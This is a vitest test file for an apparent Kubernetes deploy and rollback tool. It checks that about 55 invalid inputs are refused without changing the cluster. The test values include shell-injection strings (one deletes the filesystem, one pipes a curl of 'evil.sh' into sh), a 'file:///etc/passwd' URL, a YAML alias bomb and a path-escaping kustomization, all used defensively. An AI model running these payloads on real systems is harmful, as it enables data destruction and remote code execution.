import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { AgentCicdError } from '@agent-cicd/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadManifests } from '../manifests/load-manifests.js';
import { createReleaseBundle } from '../release/release-bundle.js';
import { emptyReleaseHistory, recordRelease } from '../release/release-history.js';
import { digestA, digestB } from '../test-utils/cluster-fixtures.js';
import { type FakeBinaries, installFakeBinaries } from '../test-utils/fake-binaries.js';
import { isMutating } from './changes-made.js';
import { type BlueGreenDeployInput, deployBlueGreen } from './deploy-blue-green.js';
import { type RollbackInput, rollBack } from './roll-back.js';
import { type CanaryRolloutInput, rolloutCanary } from './rollout-canary.js';

const richDir = fileURLToPath(new URL('../../../../fixtures/k8s/rich/', import.meta.url));
const reports = fileURLToPath(new URL('../../../../fixtures/reports/', import.meta.url));

/** 14 malformed smoke URLs: each used to deploy and switch traffic before failing. */
export const badSmokeUrls = [
  'not a url',
  'ftp://agent.example.com/health',
  'http://',
  'http:// agent.example.com/health',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '//agent.example.com/health',
  '',
  'http://agent.example.com:99999/health',
  'http://user:secret@agent.example.com/health',
  'http://agent.example.com/health\nX-Injected: 1',
  'https://[::1/health',
  'gopher://agent.example.com/',
  'data:text/plain,ok',
];

let fakes: FakeBinaries;
let dir: string;
beforeAll(async () => {
  fakes = await installFakeBinaries();
  dir = fakes.dir;
  const objects = (await loadManifests(richDir)).map((o) => o.object);
  const deployment = objects.find((o) => o.kind === 'Deployment') as { metadata: { name: string } };
  const service = objects.find((o) => o.kind === 'Service') as unknown as { spec: { selector: object } };
  const blue = structuredClone(deployment) as typeof deployment & { spec: object };
  blue.metadata.name = 'agent-blue';
  await fakes.setState({
    objects: {
      'deployment/agent-blue': blue as never,
      'deployment/agent': deployment as never,
      'service/agent': { ...service, spec: { ...service.spec, selector: { app: 'agent', color: 'blue' } } } as never,
    },
  });
  const release = (id: string, image: string) =>
    createReleaseBundle({
      id,
      image,
      prompt: { name: 'p', version: id, hash: `h${id}` },
      model: { llmModel: 'gpt-4o' },
    });
  let history = recordRelease(emptyReleaseHistory(), release('v1', digestA), {
    action: 'deploy',
    at: '2026-11-28T00:00:00Z',
  });
  history = recordRelease(history, release('v2', digestB), { action: 'deploy', at: '2026-11-29T00:00:00Z' });
  await writeFile(join(dir, 'history.json'), JSON.stringify(history));
  await writeFile(join(dir, 'broken-history.json'), '{"schemaVersion": 1, "releases": [');
  await writeFile(
    join(dir, 'release.json'),
    JSON.stringify({ prompt: { name: 'p', version: '3', hash: 'h3' }, model: { llmModel: 'x' } }),
  );
  await writeFile(join(dir, 'release-bad.json'), JSON.stringify({ prompt: { name: 'p' }, model: {} }));
  await writeFile(
    join(dir, 'release-other-image.json'),
    JSON.stringify({ image: digestA, prompt: { name: 'p', version: '3', hash: 'h3' }, model: { llmModel: 'x' } }),
  );
  await writeFile(join(dir, 'not-json.json'), 'release: yes');
  await writeFile(join(dir, 'broken.yaml'), 'kind: Deployment\nmetadata: {name: agent\n');
  await writeFile(
    join(dir, 'only-service.yaml'),
    'apiVersion: v1\nkind: Service\nmetadata: {name: agent}\nspec: {selector: {app: agent}}\n',
  );
  await writeFile(join(dir, 'not-k8s.yaml'), 'hello: world\n');
  await writeFile(
    join(dir, 'bomb.yaml'),
    `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n`,
  );
  await mkdir(join(dir, 'kustomize'));
  await writeFile(
    join(dir, 'kustomize', 'kustomization.yaml'),
    'resources: [deployment.yaml]\npatches: [{path: p.yaml}]\n',
  );
  await mkdir(join(dir, 'escape'));
  await writeFile(
    join(dir, 'escape', 'kustomization.yaml'),
    `resources: [../../${join(richDir, 'deployment.yaml')}]\n`,
  );
});
afterAll(() => fakes.cleanup());

const io = () => ({ cwd: dir, env: fakes.env });
const blueGreen: BlueGreenDeployInput = { app: 'agent', image: digestB, historyFile: 'bg-history.json' };
const canary: CanaryRolloutInput = {
  app: 'agent',
  image: digestB,
  baseline: join(reports, 'baseline.json'),
  candidate: join(reports, 'candidate-promote.json'),
  router: 'nginx',
  manifests: richDir,
  historyFile: 'canary-history.json',
};
const rollback: RollbackInput = { app: 'agent', historyFile: 'history.json' };

type Case = [string, () => Promise<unknown>];
const cases: Case[] = [
  ...badSmokeUrls.map(
    (smokeUrl, i): Case => [`blue-green smoke URL #${i + 1}`, () => deployBlueGreen({ ...blueGreen, smokeUrl }, io())],
  ),
  [
    'blue-green history ConfigMap with a shell command',
    () => deployBlueGreen({ ...blueGreen, historyFile: undefined, historyConfigMap: 'x; touch PWN' }, io()),
  ],
  ['blue-green history file and ConfigMap both', () => deployBlueGreen({ ...blueGreen, historyConfigMap: 'h' }, io())],
  ['blue-green app with a shell command', () => deployBlueGreen({ ...blueGreen, app: 'agent; rm -rf /' }, io())],
  ['blue-green app upper case', () => deployBlueGreen({ ...blueGreen, app: 'Agent' }, io())],
  ['blue-green app too long', () => deployBlueGreen({ ...blueGreen, app: 'a'.repeat(60) }, io())],
  [
    'blue-green image with a shell command',
    () => deployBlueGreen({ ...blueGreen, image: 'agent:1 && curl evil.sh | sh' }, io()),
  ],
  [
    'blue-green tag image with a release',
    () => deployBlueGreen({ ...blueGreen, image: 'ghcr.io/acme/agent:latest', releaseFile: 'release.json' }, io()),
  ],
  ['blue-green namespace with a space', () => deployBlueGreen({ ...blueGreen, namespace: 'kube system' }, io())],
  ['blue-green context starting with -', () => deployBlueGreen({ ...blueGreen, context: '--kubeconfig=/tmp/x' }, io())],
  ['blue-green timeout in words', () => deployBlueGreen({ ...blueGreen, timeout: '5 minutes' }, io())],
  ['blue-green service with a slash', () => deployBlueGreen({ ...blueGreen, service: 'svc/agent' }, io())],
  ['blue-green colour label with a space', () => deployBlueGreen({ ...blueGreen, colorLabel: 'col or' }, io())],
  ['blue-green the same colour twice', () => deployBlueGreen({ ...blueGreen, colors: ['blue', 'blue'] }, io())],
  ['blue-green colour with a command', () => deployBlueGreen({ ...blueGreen, colors: ['blue', 'green$(id)'] }, io())],
  ['blue-green negative replicas', () => deployBlueGreen({ ...blueGreen, replicas: -1 }, io())],
  ['blue-green fractional replicas', () => deployBlueGreen({ ...blueGreen, replicas: 1.5 }, io())],
  ['blue-green negative keep-warm', () => deployBlueGreen({ ...blueGreen, keepWarm: -1 }, io())],
  ['blue-green container upper case', () => deployBlueGreen({ ...blueGreen, container: 'Main' }, io())],
  [
    'blue-green container not in the Deployment',
    () => deployBlueGreen({ ...blueGreen, manifests: richDir, container: 'sidecar' }, io()),
  ],
  ['blue-green missing manifests', () => deployBlueGreen({ ...blueGreen, manifests: 'nowhere.yaml' }, io())],
  ['blue-green YAML syntax error', () => deployBlueGreen({ ...blueGreen, manifests: 'broken.yaml' }, io())],
  [
    'blue-green manifests without a Deployment',
    () => deployBlueGreen({ ...blueGreen, manifests: 'only-service.yaml' }, io()),
  ],
  [
    'blue-green manifests that are not Kubernetes objects',
    () => deployBlueGreen({ ...blueGreen, manifests: 'not-k8s.yaml' }, io()),
  ],
  ['blue-green YAML alias bomb', () => deployBlueGreen({ ...blueGreen, manifests: 'bomb.yaml' }, io())],
  ['blue-green kustomization with patches', () => deployBlueGreen({ ...blueGreen, manifests: 'kustomize' }, io())],
  [
    'blue-green kustomization resource outside its directory',
    () => deployBlueGreen({ ...blueGreen, manifests: 'escape' }, io()),
  ],
  [
    'blue-green deployment name not in manifests',
    () => deployBlueGreen({ ...blueGreen, manifests: richDir, deployment: 'other' }, io()),
  ],
  ['blue-green missing release file', () => deployBlueGreen({ ...blueGreen, releaseFile: 'missing.json' }, io())],
  ['blue-green release file not JSON', () => deployBlueGreen({ ...blueGreen, releaseFile: 'not-json.json' }, io())],
  [
    'blue-green release file missing fields',
    () => deployBlueGreen({ ...blueGreen, releaseFile: 'release-bad.json' }, io()),
  ],
  [
    'blue-green release image differs from --image',
    () => deployBlueGreen({ ...blueGreen, releaseFile: 'release-other-image.json' }, io()),
  ],
  ['canary steps decreasing', () => rolloutCanary({ ...canary, steps: [50, 25] }, io())],
  ['canary step 0', () => rolloutCanary({ ...canary, steps: [0, 100] }, io())],
  ['canary step over 100', () => rolloutCanary({ ...canary, steps: [101] }, io())],
  ['canary no steps', () => rolloutCanary({ ...canary, steps: [] }, io())],
  ['canary unknown router', () => rolloutCanary({ ...canary, router: 'traefik' as never }, io())],
  ['canary host with a space', () => rolloutCanary({ ...canary, host: 'bad host' }, io())],
  ['canary relative path', () => rolloutCanary({ ...canary, path: 'v1/chat' }, io())],
  ['canary missing baseline report', () => rolloutCanary({ ...canary, baseline: 'missing.json' }, io())],
  [
    'canary invalid candidate report',
    () => rolloutCanary({ ...canary, candidate: join(reports, 'invalid-report.json') }, io()),
  ],
  ['canary invalid policy', () => rolloutCanary({ ...canary, policy: join(reports, 'gates-invalid.yaml') }, io())],
  ['canary pause in words', () => rolloutCanary({ ...canary, pause: '1 minute' }, io())],
  ['canary 0 replicas', () => rolloutCanary({ ...canary, canaryReplicas: 0 }, io())],
  ['canary negative max holds', () => rolloutCanary({ ...canary, maxHolds: -1 }, io())],
  ['canary ingress name with underscore', () => rolloutCanary({ ...canary, ingress: 'Bad_Ingress' }, io())],
  [
    'canary manifests without the stable Deployment',
    () => rolloutCanary({ ...canary, manifests: 'only-service.yaml' }, io()),
  ],
  [
    'canary history ConfigMap with a shell command',
    () => rolloutCanary({ ...canary, historyFile: undefined, historyConfigMap: 'x; touch PWN' }, io()),
  ],
  ['canary release image differs', () => rolloutCanary({ ...canary, releaseFile: 'release-other-image.json' }, io())],
  ['rollback unknown release', () => rollBack({ ...rollback, to: 'v9' }, io())],
  ['rollback release id with a command', () => rollBack({ ...rollback, to: 'v1; rm' }, io())],
  ['rollback unknown strategy', () => rollBack({ ...rollback, strategy: 'recreate' as never }, io())],
  [
    'rollback history ConfigMap with a shell command',
    () => rollBack({ app: 'agent', historyConfigMap: 'x; touch PWN' }, io()),
  ],
  ['rollback broken history file', () => rollBack({ ...rollback, historyFile: 'broken-history.json' }, io())],
  ['rollback deployment name with a space', () => rollBack({ ...rollback, deployment: 'Bad Name' }, io())],
  ['rollback namespace with a command', () => rollBack({ ...rollback, namespace: 'agents;id' }, io())],
  [
    'rollback blue-green forced on a Service without colours',
    () => rollBack({ ...rollback, strategy: 'blue-green', service: 'agent', colorLabel: 'track' }, io()),
  ],
  ['rollback negative keep-warm', () => rollBack({ ...rollback, keepWarm: -2 }, io())],
];

describe('invalid deploy and rollback input changes nothing', { timeout: 300_000 }, () => {
  it(`${cases.length} bad inputs: each refused as invalid input with 0 mutating kubectl/docker calls`, async () => {
    const refused: string[] = [];
    for (const [name, run] of cases) {
      await fakes.clearCalls();
      const error = await run().then(
        (outcome) => new Error(`${name}: accepted (${JSON.stringify((outcome as { status?: string }).status)})`),
        (e: unknown) => e,
      );
      expect(error, name).toBeInstanceOf(AgentCicdError);
      expect((error as AgentCicdError).code, name).not.toMatch(/COMMAND/);
      expect((error as Error).message, name).not.toContain('\n');
      const mutating = (await fakes.calls()).filter((call) => isMutating({ argv: [call.tool, ...call.argv] }));
      expect(mutating, name).toEqual([]);
      refused.push(name);
    }
    expect(refused).toHaveLength(cases.length);
    expect(cases.length).toBeGreaterThanOrEqual(55);
  });

  it('control: the same harness sees a valid deploy change the cluster', async () => {
    await fakes.clearCalls();
    const outcome = await deployBlueGreen({ ...blueGreen, smokeUrl: undefined }, io());
    expect(outcome.status).toBe('succeeded');
    expect(
      (await fakes.calls()).filter((call) => isMutating({ argv: [call.tool, ...call.argv] })).length,
    ).toBeGreaterThan(0);
  });
});
